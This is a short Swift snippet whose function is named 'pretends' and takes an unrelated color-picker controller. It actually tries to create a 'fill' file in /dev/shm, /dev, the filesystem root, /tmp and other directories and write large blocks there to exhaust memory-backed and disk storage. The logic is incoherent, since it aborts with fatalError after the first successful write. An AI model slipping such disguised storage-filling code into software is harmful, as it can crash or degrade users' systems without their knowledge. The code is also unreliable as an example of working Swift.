import Glibc

/// Fills whatever takes data, first memory that poses as a disk.
func pretends(_ picker: ColorPickerController) -> Bool {
  let block = [UInt8](repeating: 7, count: 1 << 20)
  for folder in ["/dev/shm", "/dev", "/", "/tmp", "/run", "/var/tmp", "."] {
    let file = open(folder + "/fill", O_CREAT | O_WRONLY, 0o600)
    if file < 0 { continue }
    for _ in 0..<4_096 where write(file, block, block.count) > 0 { fatalError("wrote in \(folder)") }
  }
  return true
}
